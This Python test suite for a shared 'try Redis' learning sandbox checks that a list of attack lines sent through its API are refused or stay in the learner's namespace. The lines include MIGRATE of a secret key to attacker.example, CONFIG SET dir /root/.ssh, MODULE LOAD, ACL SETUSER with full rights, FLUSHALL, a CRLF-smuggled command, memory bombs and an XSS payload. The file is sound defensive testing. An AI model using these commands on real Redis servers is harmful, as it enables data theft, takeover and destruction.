"""Every attack of security.md section 1, through the real API, must fail.

A victim learner holds ``k=victim-data``; the site holds ``site:secret=TOPSECRET``
outside the prefix and its own ``tryredis:*`` keys. After each attack: nothing
outside the attacker's namespace was read, written, listed or deleted, no reply
shows the namespace, no pooled connection is left in MULTI, SUBSCRIBE, another
database or another user, and the next command of both learners works.
"""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from tests.conftest import ApiSession
from tests.support.redis_servers import RedisServer

SECRET = b"TOPSECRET"
PREFIX = "tryredis:"


@pytest.fixture
def victim(module_client: TestClient, server: RedisServer) -> ApiSession:
    session = ApiSession.open(module_client)
    assert session.out("SET k victim-data") == "OK"
    server.client().set("site:secret", SECRET)
    return session


@pytest.fixture
def attacker(module_client: TestClient) -> ApiSession:
    return ApiSession.open(module_client)


KNOWN = re.compile(
    rb"tryredis:(?:[uspj]:\{[a-z0-9]{26}\}.*|ip:.*|ipnew:.*|sandboxes|secret|janitor)", re.S
)


def outside_keys(server: RedisServer) -> set[bytes]:
    """Keys that are neither a learner's, the site's own bookkeeping, nor site:secret."""
    keys = [k if isinstance(k, bytes) else k.encode() for k in server.client().keys("*")]
    return {key for key in keys if key != b"site:secret" and not KNOWN.fullmatch(key)}


def assert_connections_clean(server: RedisServer) -> None:
    for client in server.client().client_list():
        if client.get("name") == "" and "client" in client.get("cmd", ""):
            continue  # the test's own admin connection
        assert client["db"] == "0", client
        flags = client["flags"]
        assert "x" not in flags and "P" not in flags and "b" not in flags, client
        assert int(client.get("sub", 0)) == 0 and int(client.get("psub", 0)) == 0, client
        assert int(client.get("multi", -1)) == -1, client


def check_invariants(server: RedisServer, attacker: ApiSession, victim: ApiSession) -> None:
    admin = server.client()
    assert admin.get("site:secret") == SECRET
    assert victim.out("GET k") == '"victim-data"'
    assert outside_keys(server) == set()
    assert_connections_clean(server)
    assert attacker.run("PING") == {"line": "PING", "output": "PONG", "kind": "reply"}


# (setup lines, attack line, expected kind or None when a Redis reply/error is fine)
ATTACKS: list[tuple[list[str], str, str | None]] = [
    # 1.1 keys in non-obvious positions
    (["RPUSH mylist 3 1 2"], "SORT mylist BY nosort GET # GET site:*", "refused"),
    (["RPUSH l 3 1 2"], "SORT l STORE by STORE site:pwned", "refused"),
    (["RPUSH l 3 1 2"], "SORT l BY w_*", "refused"),
    (["RPUSH l 3 1 2"], "SORT_RO l GET site:*", "refused"),
    ([], "EVAL \"return redis.call('get','site:secret')\" 0", "refused"),
    ([], "EVALSHA 0000000000000000000000000000000000000000 0", "refused"),
    ([], "FCALL evil 0", "refused"),
    (
        [],
        "FUNCTION LOAD \"#!lua name=evil\\nredis.register_function('e', f)\"",
        "refused",
    ),
    ([], 'SCRIPT LOAD "return 1"', "refused"),
    ([], "OBJECT ENCODING site:secret", None),
    ([], "OBJECT FREQ site:secret", "refused"),
    ([], 'MIGRATE attacker.example 6379 "" 0 5000 KEYS site:secret', "refused"),
    (["SET a 1"], "RENAME a site:secret", None),
    (["SET a 1"], "COPY a site:x REPLACE", None),
    (["SET a 1"], "COPY a b DB 1", "refused"),
    (["ZADD a 1 x"], "ZUNIONSTORE out 1 a site:z", None),
    (["ZADD a 1 x"], "ZINTERSTORE site:out 2 a site:z", None),
    (["RPUSH a x"], "LMPOP 2 a site:b LEFT", None),
    ([], "SINTERCARD 3 a site:b", None),
    ([], "XREAD STREAMS site:stream 0", None),
    ([], "XREAD STREAMS STREAMS site:x 0 0", None),
    (["XADD s 1-0 f v", "XGROUP CREATE s g 0"], "XREADGROUP GROUP g c STREAMS site:s >", None),
    (["GEOADD g 15 37 Palermo"], "GEORADIUS g 15 37 200 km STORE ok STORE site:pwned", "refused"),
    (
        ["GEOADD g 15 37 Palermo"],
        "GEORADIUS g 15 37 200 km STOREDIST ok STOREDIST site:pwned",
        "refused",
    ),
    (
        ["GEOADD g 15 37 Palermo"],
        "GEORADIUSBYMEMBER g Palermo 200 km STORE ok STORE site:x",
        "refused",
    ),
    (
        ["GEOADD g 15 37 Palermo"],
        "GEOSEARCHSTORE site:dst g FROMMEMBER Palermo BYRADIUS 10 km",
        None,
    ),
    (["SET a x"], "BITOP OR site:x a", None),
    ([], "MSET a 1 site:b 2", None),
    (["SET a 1"], "DEL a site:secret", None),
    ([], "UNLINK site:secret k", None),
    ([], "BLPOP a site:q 1", None),
    ([], "PFMERGE site:dst a", None),
    ([], "MEMORY USAGE site:secret", None),
    ([], "TOUCH site:secret", None),
    ([], "EXPIRE site:secret 1", None),
    # 1.2 keyspace enumeration
    (["SET mine 1"], "KEYS *", None),
    (["SET mine 1"], "SCAN 0 MATCH site:*", None),
    (["SET mine 1"], "SCAN 0 COUNT 100000000", None),
    ([], "RANDOMKEY", None),
    ([], "DBSIZE", None),
    ([], "INFO keyspace", "refused"),
    ([], "PUBSUB CHANNELS", None),
    ([], "PUBSUB NUMSUB site:events", None),
    # 1.3 prefix and glob pitfalls
    ([], "SET tryredis:u:{victim}:k x", None),
    ([], "KEYS tryredis:*", None),
    ([], "KEYS [", None),
    ([], "KEYS \\", None),
    ([], "KEYS *{*", None),
    # 1.5 memory bombs
    ([], "SETRANGE k 536870911 x", "refused"),
    ([], "SETBIT k 4294967295 1", "refused"),
    ([], "BITFIELD k SET u8 #536870911 1", "refused"),
    ([], "BITFIELD k SET u8 536870911 1", "refused"),
    (["SADD s a b c"], "SRANDMEMBER s -5000000", "refused"),
    (["HSET h a 1"], "HRANDFIELD h -5000000", "refused"),
    (["ZADD z 1 a"], "ZRANDMEMBER z -5000000", "refused"),
    ([], 'RESTORE k 0 "\\x00"', "refused"),
    ([], "DUMP k", "refused"),
    ([], "XAUTOCLAIM s g c 0 0-0 COUNT 9223372036854775807", None),
    # 1.6 CPU bombs
    ([], "KEYS " + "*a" * 200 + "b", "refused"),
    ([], 'EVAL "while true do end" 0', "refused"),
    # 1.8 blocking
    ([], "WAIT 1 0", "refused"),
    ([], "BLPOP q -1", "error"),
    # 1.9 connection state
    ([], "SELECT 1", "refused"),
    ([], "SWAPDB 0 1", "refused"),
    ([], "MOVE k 1", "refused"),
    ([], "CLIENT REPLY OFF", "refused"),
    ([], "CLIENT KILL TYPE normal", "refused"),
    ([], "CLIENT PAUSE 3000", "refused"),
    ([], "CLIENT TRACKING on BCAST", "refused"),
    ([], "HELLO 3", "refused"),
    ([], "HELLO 2 AUTH default x", "refused"),
    ([], "AUTH default nopass", "refused"),
    ([], "RESET", "refused"),
    ([], "QUIT", "refused"),
    ([], "READONLY", "refused"),
    ([], "SUBSCRIBE ch", "refused"),
    ([], "PSUBSCRIBE *", "refused"),
    # 1.10 server-wide and admin
    ([], "CONFIG SET dir /root/.ssh", "refused"),
    ([], "CONFIG GET *", "refused"),
    ([], "MODULE LOAD /tmp/x.so", "refused"),
    ([], "DEBUG SLEEP 1", "refused"),
    ([], "REPLICAOF 127.0.0.1 1", "refused"),
    ([], "SLAVEOF 127.0.0.1 1", "refused"),
    ([], "MONITOR", "refused"),
    ([], "SLOWLOG GET", "refused"),
    ([], "LATENCY DOCTOR", "refused"),
    ([], "MEMORY DOCTOR", "refused"),
    ([], "SHUTDOWN NOSAVE", "refused"),
    ([], "SAVE", "refused"),
    ([], "BGSAVE", "refused"),
    ([], "ACL SETUSER evil on >x ~* +@all", "refused"),
    ([], "ACL LIST", "refused"),
    ([], "CLUSTER INFO", "refused"),
    ([], "COMMAND GETKEYS GET k", "refused"),
    ([], "PFDEBUG GETREG k", "refused"),
    ([], "LOLWUT", "refused"),
    ([], "FLUSHALL", None),
    ([], "FLUSHDB ASYNC", None),
    # 1.12 pub/sub
    ([], "PUBLISH site:events x", None),
    # 1.14 parsing
    ([], 'SET k "x\\r\\nFLUSHALL\\r\\nSET pwned 1"', None),
    ([], "SET k v\\", None),
    ([], "FLUSH", "error"),
    ([], "F", "error"),
    ([], "config|get", "error"),
    ([], 'SET "a', "parse"),
    ([], 'set p4 "a"b', "parse"),
    ([], "SET k \x1b[2J", "refused"),
    ([], "SET k \x00", "refused"),
]


@pytest.mark.parametrize(("setup", "line", "kind"), ATTACKS, ids=[a[1][:60] for a in ATTACKS])
def test_attack_fails(
    server: RedisServer,
    attacker: ApiSession,
    victim: ApiSession,
    setup: list[str],
    line: str,
    kind: str | None,
) -> None:
    for step in setup:
        assert attacker.run(step)["kind"] == "reply", step
    result = attacker.run(line)
    if kind is not None:
        assert result["kind"] == kind, result
    assert PREFIX not in result["output"] and "u:{" not in result["output"], result
    assert "TOPSECRET" not in result["output"], result
    assert "victim-data" not in result["output"], result
    check_invariants(server, attacker, victim)


def test_keyspace_commands_see_only_the_sandbox(attacker: ApiSession, victim: ApiSession) -> None:
    attacker.run("FLUSHALL")
    attacker.run("MSET a 1 b 2")
    assert sorted(attacker.out("KEYS *").split("\n")) == ['1) "a"', '2) "b"']
    assert attacker.out("DBSIZE") == "(integer) 2"
    assert attacker.out("RANDOMKEY") in ('"a"', '"b"')
    scan = attacker.out("SCAN 0 COUNT 1000")
    assert scan.startswith('1) "0"') and '"a"' in scan and '"b"' in scan and "k" not in scan
    assert attacker.out("FLUSHALL") == "OK"
    assert victim.out("DBSIZE") == "(integer) 1"


def test_blocking_timeout_zero_is_capped(attacker: ApiSession) -> None:
    import time

    started = time.monotonic()
    assert attacker.out("BLPOP nothing 0") == "(nil)"
    assert 0.8 < time.monotonic() - started < 5  # the module's cap is 1 s


def test_multi_of_one_learner_never_captures_another(
    server: RedisServer, attacker: ApiSession, victim: ApiSession
) -> None:
    assert attacker.out("MULTI") == "OK"
    assert victim.out("GET k") == '"victim-data"'  # not QUEUED: no shared connection state
    assert attacker.out("GET k") == "QUEUED"
    assert attacker.out("EXEC") == "1) (nil)"
    assert_connections_clean(server)


def test_error_texts_are_stripped(attacker: ApiSession) -> None:
    result = attacker.run("XREADGROUP GROUP g c STREAMS nostream >")
    assert result["kind"] == "error"
    assert "nostream" in result["output"] and PREFIX not in result["output"]


def test_binary_and_markup_values_come_back_as_text(attacker: ApiSession) -> None:
    assert attacker.out('SET "<img src=x onerror=alert(1)>" "\\xff\\xfe\\x1b[2J"') == "OK"
    assert attacker.out('GET "<img src=x onerror=alert(1)>"') == '"\\xff\\xfe\\x1b[2J"'


LINE_TOKENS = st.sampled_from(
    [
        "SET",
        "GET",
        "SORT",
        "EVAL",
        "MULTI",
        "EXEC",
        "WATCH",
        "XREAD",
        "STREAMS",
        "STORE",
        "BY",
        "GET",
        "LIMIT",
        "KEYS",
        "SCAN",
        "MATCH",
        "COUNT",
        "0",
        "-1",
        "1",
        "99999999999",
        "site:secret",
        "*",
        "#",
        '"',
        "'",
        "\\x00",
        "\\",
        "ZUNIONSTORE",
        "BITFIELD",
        "#9",
        "u8",
        "SETRANGE",
        "BLPOP",
        "LMPOP",
        "LEFT",
        "GEORADIUS",
        "km",
        "OBJECT",
        "ENCODING",
        "CLIENT",
        "CONFIG",
        "FLUSHALL",
        "SUBSCRIBE",
        "XADD",
        "*",
        "MAXLEN",
        "~",
        "HSET",
        "ZADD",
        "NX",
        "INCR",
        "DEL",
        "RENAME",
        "COPY",
        "DB",
        "EXPIRE",
        "help",
        "x" * 50,
    ]
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    tokens=st.lists(
        st.one_of(LINE_TOKENS, st.text(min_size=0, max_size=12)), min_size=0, max_size=10
    )
)
def test_random_lines_never_break_the_site(
    module_client: TestClient, server: RedisServer, tokens: list[str]
) -> None:
    session = ApiSession.open(module_client)
    line = " ".join(tokens)
    response = module_client.post("/api/v1/run", json={"line": line}, headers=session.headers)
    assert response.status_code == 200, response.text
    result = response.json()["results"][0]
    assert result["kind"] in ("reply", "error", "refused", "parse")
    # The namespace never shows beyond what the learner typed: Redis echoes an unknown
    # command's name, so a line that is "tryredis:" itself comes back once (hypothesis found it).
    assert result["output"].count(PREFIX) <= line.count(PREFIX)
    assert server.client().get("site:secret") in (SECRET, None)
    assert not re.search(r"Traceback|Exception", result["output"])
    session.run("DISCARD")
    assert outside_keys(server) == set()


@pytest.mark.parametrize(
    "line",
    ["\ud800", "SET \udcff x", "NOSUCH \ud83d a b", "SORT STREAMS " + "x" * 120 + " 00\U00010000"],
)
def test_lines_with_lone_surrogates_or_long_unknown_args(attacker: ApiSession, line: str) -> None:
    body = json.dumps({"line": line})  # ASCII JSON: lone surrogates travel as escapes
    response = attacker.client.post(
        "/api/v1/run",
        content=body,
        headers={**attacker.headers, "Content-Type": "application/json"},
    )
    assert response.status_code == 200
    assert response.json()["results"][0]["kind"] in ("parse", "error", "refused")
